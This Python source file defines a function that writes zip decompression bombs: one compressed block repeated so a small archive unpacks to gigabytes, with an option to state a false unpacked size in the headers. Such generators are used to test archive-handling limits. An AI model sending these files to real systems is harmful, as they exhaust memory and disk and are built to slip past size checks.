"""Makes zips that unpack to gigabytes, in a moment and in little memory."""

import struct
import zlib
from pathlib import Path

MEGABYTE = 1024 * 1024
_DEFLATED = 8
_VERSION = 20


def write_bomb(path: Path, name: str, block: bytes, times: int, says: int | None = None) -> Path:
    """A zip with one file: a block so many times over.

    The block is compressed once, up to a boundary behind which it can stand again.

    Args:
        path: Where.
        name: Of the file inside.
        block: What it repeats.
        times: How often.
        says: The unpacked size that the zip states; the true one by default.
    """
    packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    once = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)
    end = packer.flush(zlib.Z_FINISH)
    checksum = 0
    for _ in range(times):
        checksum = zlib.crc32(block, checksum)
    packed = len(once) * times + len(end)
    size = len(block) * times if says is None else says
    common = struct.pack(
        "<HHHHHIIIHH", _VERSION, 0, _DEFLATED, 0, 0x21, checksum, packed, size, len(name), 0
    )
    with path.open("wb") as file:
        file.write(b"PK\x03\x04" + common + name.encode())
        for _ in range(times):
            file.write(once)
        file.write(end)
        start = file.tell()
        file.write(b"PK\x01\x02" + struct.pack("<H", _VERSION) + common)
        file.write(struct.pack("<HHHII", 0, 0, 0, 0, 0) + name.encode())
        length = file.tell() - start
        file.write(b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, 1, 1, length, start, 0))
    return path
